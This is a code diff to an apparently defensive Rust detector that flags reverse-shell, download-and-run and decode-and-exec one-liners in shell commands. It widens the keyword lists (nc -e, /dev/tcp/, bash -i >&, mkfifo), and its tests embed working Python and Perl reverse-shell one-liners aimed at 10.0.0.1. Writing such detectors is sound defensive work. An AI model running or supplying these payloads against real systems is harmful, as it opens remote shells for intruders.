@@ -7,10 +7,86 @@ use super::{args, class_of, Ctx, Findings};
 use crate::analysis::shell::SimpleCommand;
 use crate::knowledge::{signals, ToolClass};
 
-const SOCKET: &[&str] = &["socket", "tcpsocket", "fsockopen", "net.connect", "net.socket", "/inet/tcp", "io::socket", "require('net')", "require(\"net\")", "createconnection", "stream_socket_client"];
-const SHELL_EXEC: &[&str] = &["dup2", "pty.spawn", "subprocess", "/bin/sh", "/bin/bash", "sh -i", "exec(", "system(", "popen", "spawn(", "child_process", "os.system", "exec \"/bin", "proc_open", "shell_exec", "|&", "io.popen"];
-const DECODE: &[&str] = &["b64decode", "base64", "decode_base64", "unpack(\"m", "unpack('m", "fromhex", "unhexlify", "codecs.decode", "zlib.decompress", "atob("];
-const RUN: &[&str] = &["exec(", "eval(", "system(", "popen", "loads(", "function(", "compile("];
+const SOCKET: &[&str] = &[
+    "socket",
+    "tcpsocket",
+    "fsockopen",
+    "net.connect",
+    "net.socket",
+    "/inet/tcp",
+    "io::socket",
+    "require('net')",
+    "require(\"net\")",
+    "createconnection",
+    "stream_socket_client",
+];
+const SHELL_EXEC: &[&str] = &[
+    "dup2",
+    "pty.spawn",
+    "subprocess",
+    "/bin/sh",
+    "/bin/bash",
+    "sh -i",
+    "exec(",
+    "system(",
+    "popen",
+    "spawn(",
+    "child_process",
+    "os.system",
+    "exec \"/bin",
+    "proc_open",
+    "shell_exec",
+    "|&",
+    "io.popen",
+    "system$_",
+    "fdopen",
+    "exec sh",
+    "exec bash",
+];
+/// Inline code that runs a known reverse-shell command itself.
+const SHELL_COMMANDS: &[&str] = &[
+    "nc -e",
+    "ncat -e",
+    "nc -c",
+    "/dev/tcp/",
+    "bash -i >&",
+    "sh -i >&",
+    "mkfifo",
+];
+const FETCH: &[&str] = &[
+    "urlopen",
+    "urllib",
+    "requests.get",
+    "http.get",
+    "https.get",
+    "lwp::simple",
+    "open-uri",
+    "file_get_contents(\"http",
+    "file_get_contents('http",
+    "net::http",
+    "fetch(",
+];
+const DECODE: &[&str] = &[
+    "b64decode",
+    "base64",
+    "decode_base64",
+    "unpack(\"m",
+    "unpack('m",
+    "fromhex",
+    "unhexlify",
+    "codecs.decode",
+    "zlib.decompress",
+    "atob(",
+];
+const RUN: &[&str] = &[
+    "exec(",
+    "eval(",
+    "system(",
+    "popen",
+    "loads(",
+    "function(",
+    "compile(",
+];
 
 pub fn detect(cx: &Ctx, out: &mut Findings) {
     for c in cx.commands() {
@@ -21,11 +97,34 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
         let Some(code) = inline_code(c) else { continue };
         let lower = code.to_ascii_lowercase();
         let has = |set: &[&str]| set.iter().any(|k| lower.contains(k));
-        if has(SOCKET) && has(SHELL_EXEC) {
-            let signal = if p.starts_with("python") { signals::PYTHON_REVERSE_SHELL } else { signals::SCRIPT_REVERSE_SHELL };
-            out.hit(signal, format!("{p} one-liner opening a socket and running a shell{}", ip_hint(code)));
+        if (has(SOCKET) && has(SHELL_EXEC)) || has(SHELL_COMMANDS) {
+            let signal = if p.starts_with("python") {
+                signals::PYTHON_REVERSE_SHELL
+            } else {
+                signals::SCRIPT_REVERSE_SHELL
+            };
+            out.hit(
+                signal,
+                format!(
+                    "{p} one-liner opening a socket and running a shell{}",
+                    ip_hint(code)
+                ),
+            );
+        } else if has(FETCH) && has(RUN) {
+            out.hit(
+                signals::DOWNLOAD_PIPE_SHELL,
+                format!("{p} one-liner downloading and running code"),
+            );
+        } else if p.starts_with("python") && lower.contains("pty.spawn") && !cx.tty {
+            out.hit(
+                signals::PTY_UPGRADE,
+                format!("{p} pty.spawn without a terminal"),
+            );
         } else if has(DECODE) && has(RUN) {
-            out.hit(signals::INLINE_CODE_DECODE_EXEC, format!("{p} one-liner decoding and running a payload"));
+            out.hit(
+                signals::INLINE_CODE_DECODE_EXEC,
+                format!("{p} one-liner decoding and running a payload"),
+            );
         }
     }
 }
@@ -51,7 +150,13 @@ fn inline_code(c: &SimpleCommand) -> Option<&str> {
             return a.get(i + 1).map(String::as_str);
         }
         // perl/ruby clusters such as `-MIO -e` are separate; `-ne`, `-pe` end in e.
-        if !p.starts_with("python") && x.len() > 2 && x.starts_with('-') && !x.starts_with("--") && x.ends_with('e') && x[1..].bytes().all(|b| b.is_ascii_alphabetic()) {
+        if !p.starts_with("python")
+            && x.len() > 2
+            && x.starts_with('-')
+            && !x.starts_with("--")
+            && x.ends_with('e')
+            && x[1..].bytes().all(|b| b.is_ascii_alphabetic())
+        {
             return a.get(i + 1).map(String::as_str);
         }
     }
@@ -71,8 +176,16 @@ fn ip_hint(code: &str) -> String {
             let cand = &code[start..i];
             if cand.matches('.').count() == 3 {
                 let rest = &code[i..];
-                let port: String = rest.trim_start_matches(|c: char| !c.is_ascii_digit() && c != ')' && c != ';').chars().take_while(char::is_ascii_digit).collect();
-                return if port.is_empty() { format!(" to {cand}") } else { format!(" to {cand}:{port}") };
+                let port: String = rest
+                    .trim_start_matches(|c: char| !c.is_ascii_digit() && c != ')' && c != ';')
+                    .chars()
+                    .take_while(char::is_ascii_digit)
+                    .collect();
+                return if port.is_empty() {
+                    format!(" to {cand}")
+                } else {
+                    format!(" to {cand}:{port}")
+                };
             }
         }
         i += 1;
@@ -88,16 +201,47 @@ mod tests {
     #[test]
     fn fires_on_socket_shells() {
         let py = "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")";
-        assert_eq!(run(detect, &["python3", "-c", py]), ["python_reverse_shell"]);
+        assert_eq!(
+            run(detect, &["python3", "-c", py]),
+            ["python_reverse_shell"]
+        );
         let pl = "use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};";
         assert_eq!(run(detect, &["perl", "-e", pl]), ["script_reverse_shell"]);
-        assert_eq!(run(detect, &["python3", "-c", "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"]), ["inline_code_decode_exec"]);
+        assert_eq!(
+            run(
+                detect,
+                &[
+                    "python3",
+                    "-c",
+                    "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"
+                ]
+            ),
+            ["inline_code_decode_exec"]
+        );
     }
 
     #[test]
     fn quiet_on_plain_one_liners() {
-        assert!(run(detect, &["python3", "-c", "import json,sys; print(json.load(sys.stdin)['version'])"]).is_empty());
-        assert!(run(detect, &["perl", "-pi", "-e", "s/^#?Port 22$/Port 2222/", "/etc/ssh/sshd_config"]).is_empty());
+        assert!(run(
+            detect,
+            &[
+                "python3",
+                "-c",
+                "import json,sys; print(json.load(sys.stdin)['version'])"
+            ]
+        )
+        .is_empty());
+        assert!(run(
+            detect,
+            &[
+                "perl",
+                "-pi",
+                "-e",
+                "s/^#?Port 22$/Port 2222/",
+                "/etc/ssh/sshd_config"
+            ]
+        )
+        .is_empty());
         assert!(run(detect, &["awk", "{print $1}", "file"]).is_empty());
     }
 }
